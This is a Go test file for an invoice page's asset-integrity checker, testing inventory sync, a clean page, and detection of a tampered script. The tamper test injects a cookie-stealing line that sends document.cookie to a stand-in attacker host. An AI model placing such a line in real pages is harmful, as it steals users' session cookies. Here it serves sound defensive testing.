package hostedpage_test

import (
	"encoding/json"
	"flag"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vaultbill/vaultbill/shared/handlers/hostedpage"
)

var update = flag.Bool("update", false, "rewrite inventory.json from the embedded assets")

// TestInventoryMatchesTheAssets keeps inventory.json (the 6.4.3 inventory in the repository) equal to
// what the page serves: a changed script or style, or header, fails until the inventory is updated
// (go test ./shared/handlers/hostedpage -run TestInventory -update) and reviewed.
func TestInventoryMatchesTheAssets(t *testing.T) {
	cur, err := hostedpage.Current(hostedpage.Assets)
	if err != nil {
		t.Fatal(err)
	}
	if *update {
		b, _ := json.MarshalIndent(cur, "", "  ")
		if err := os.WriteFile("inventory.json", append(b, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	released, err := hostedpage.Released()
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(released, cur); d != "" {
		t.Errorf("inventory.json (-) and the served page (+) differ; review the change, then run with -update:\n%s", d)
	}
	for _, it := range append(cur.Scripts, cur.Styles...) {
		if it.Purpose == "" {
			t.Errorf("%s has no stated purpose", it.Path)
		}
	}
}

// The live page of a fresh stack matches the released inventory.
func TestCheckPassesOnTheReleasedPage(t *testing.T) {
	e := newEnv(t)
	for _, p := range []string{hostedpage.CanaryPath, e.link(e.inv.ID)} {
		c := &hostedpage.Checker{URL: e.s.URL + p, Alert: &hostedpage.Alerter{}}
		if diffs, err := c.Run(t.Context()); err != nil || len(diffs) > 0 {
			t.Errorf("%s: %v %v", p, diffs, err)
		}
	}
}

// Tampering with the served script (as an attacker with write access to the function's assets would)
// is detected and alerts.
func TestCheckAlertsOnATamperedScript(t *testing.T) {
	e := newEnv(t)
	tampered := tamperedAssets(t, "page.js", "\n;fetch('https://evil.example/'+document.cookie);\n")
	e.replacePage(tampered)
	var metrics strings.Builder
	c := &hostedpage.Checker{URL: e.s.URL + hostedpage.CanaryPath, Alert: &hostedpage.Alerter{Metrics: &metrics}, Log: stacktestLogger(t)}
	diffs, err := c.Run(t.Context())
	if err == nil || len(diffs) == 0 {
		t.Fatal("a tampered script was not detected")
	}
	joined := strings.Join(diffs, "\n")
	if !strings.Contains(joined, "script assets/page.js serves content with hash") || !strings.Contains(joined, "script assets/page.js has integrity") {
		t.Errorf("differences:\n%s", joined)
	}
	if !strings.Contains(metrics.String(), `"PageChanged":1`) || !strings.Contains(logsText(), "ALERT: the hosted invoice page differs from its released inventory") {
		t.Error("no alert (metric and ALERT line) for the tampered page")
	}
}
